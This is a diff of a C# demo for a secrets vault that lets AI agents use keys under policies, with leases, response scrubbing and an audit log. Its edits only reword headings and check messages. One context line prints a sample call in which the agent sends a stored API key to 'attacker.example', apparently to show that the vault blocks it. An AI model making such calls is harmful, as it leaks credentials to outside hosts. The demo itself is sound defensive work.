@@ -32,14 +32,14 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
     private async Task OperatorSetsUpAsync()
     {
-        Heading("1. You, the operator, make a vault and start its daemon");
+        Heading("1. You, the operator, create a vault and start its daemon");
         await shell.RunAsync(["init"]).ConfigureAwait(false);
         Check("the vault is on disk, and only you can read it", OnlyOwnerReads(vault.Path) && OnlyOwnerReads(vault.SealFile));
         await shell.RunAsync(["daemon", "start"]).ConfigureAwait(false);
         var daemon = await shell.FindDaemonAsync().ConfigureAwait(false);
         Check($"the daemon responds, in its own process {daemon.ProcessId}", !daemon.Sealed && daemon.ProcessId != Environment.ProcessId);
 
-        Heading("2. You put secrets in. They are typed or piped in, never given as arguments");
+        Heading("2. You store secrets. They are typed or piped in, never given as arguments");
         await shell.RunAsync(["store", ApiKey, "--header-type", "bearer", "--allow-origin", service.Origin], _secret).ConfigureAwait(false);
         await shell.RunAsync(["store", Token, "--description", "for a program that can't use the vault yet"], _token).ConfigureAwait(false);
         await shell.RunAsync(["store", SigningKey, "--type", "hmac"], RandomNumberGenerator.GetHexString(64, lowercase: true)).ConfigureAwait(false);
@@ -47,7 +47,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         terminal.Line($"    ({service.Origin} is a service that this demo started; for a real one: --service openai, or --host NAME)");
         Check("on disk they are encrypted: the secret is in none of the vault's files", !IsAnywhereOnDisk(_secret));
 
-        Heading("3. You give an agent an identity, and say what it may do");
+        Heading("3. You register an agent and write its policy");
         await shell.RunAsync(["agent", "register", Agent]).ConfigureAwait(false);
         await shell.RunAsync(["policy", "add", "helper-uses", "--principal", $"agent:{Agent}", "--resources", $"{ApiKey},{SigningKey}", "--actions", "list,use", "--condition", "max_uses_per_hour=100"]).ConfigureAwait(false);
         await shell.RunAsync(["policy", "add", "helper-reads", "--principal", $"agent:{Agent}", "--resources", "legacy/*", "--actions", "list,retrieve", "--max-ttl", "60"]).ConfigureAwait(false);
@@ -80,7 +80,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         using var response = await client.SendAsync(ApiKey, request, cancelled).ConfigureAwait(false);
         var answer = await response.Content.ReadAsStringAsync(cancelled).ConfigureAwait(false);
         Check("the service got the key, from the vault", response.IsSuccessStatusCode && service.Received(_secret));
-        terminal.Line($"    it responded, careless as it is, with the key in it; the agent got: {answer}");
+        terminal.Line($"    it responded carelessly, with the key in it; the agent got: {answer}");
         Check("the key was taken out of the response", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
 
         Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"https://attacker.example/\"))");
@@ -90,7 +90,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
     private async Task AgentRetrievesAsync(SanctumClient client)
     {
-        Heading("7. Where a program must have the secret itself, it has it for a while");
+        Heading("7. A program that needs the secret itself gets it on a lease");
         Code($"await client.RetrieveLeaseAsync(\"{Token}\")");
         await using var lease = await client.RetrieveLeaseAsync(Token, cancellationToken: cancelled).ConfigureAwait(false);
         Check($"it has the secret, on a lease of {lease.Ttl.TotalSeconds:0} seconds", lease.GetString() == _token && lease.Ttl <= TimeSpan.FromSeconds(60));
@@ -117,7 +117,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         Code($"await client.RetrieveAsync(\"{Ungranted}\")");
         Check("no policy names it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(Ungranted, cancellationToken: cancelled)).ConfigureAwait(false));
         Code($"await client.RetrieveAsync(\"{SigningKey}\")");
-        Check("it may use this key, and not have it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(SigningKey, cancellationToken: cancelled)).ConfigureAwait(false));
+        Check("it may use this key, but not retrieve it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(SigningKey, cancellationToken: cancelled)).ConfigureAwait(false));
     }
 
     private async Task OperatorLooksAsync()
@@ -125,11 +125,11 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         Heading("9. You see who did what");
         var log = await shell.RunAsync(["audit", "log", "--agent", Agent]).ConfigureAwait(false);
         Check("what the agent did is in the audit log", log.Contains("sign", StringComparison.Ordinal) && log.Contains(ApiKey, StringComparison.Ordinal));
-        Check("what it was refused is there too", log.Contains("denied", StringComparison.Ordinal) && log.Contains(Ungranted, StringComparison.Ordinal));
+        Check("refused calls are there too", log.Contains("denied", StringComparison.Ordinal) && log.Contains(Ungranted, StringComparison.Ordinal));
         Check("where the key was sent is there, and that it was taken out of a response", log.Contains(service.Origin, StringComparison.Ordinal) && log.Contains("scrubbed", StringComparison.Ordinal));
         Check("the secrets are not", !log.Contains(_secret, StringComparison.Ordinal) && !log.Contains(_token, StringComparison.Ordinal));
         var whole = await shell.RunAsync(["audit", "verify"]).ConfigureAwait(false);
-        Check("no entry was changed, removed or added", whole.Contains("the audit log is whole", StringComparison.Ordinal));
+        Check("no entry was changed, removed or added", whole.Contains("the audit log is intact", StringComparison.Ordinal));
         await shell.RunAsync(["daemon", "stop"]).ConfigureAwait(false);
         Check("the daemon is gone, and its sockets with it", !File.Exists(vault.Socket) && !File.Exists(vault.AdminSocket));
     }
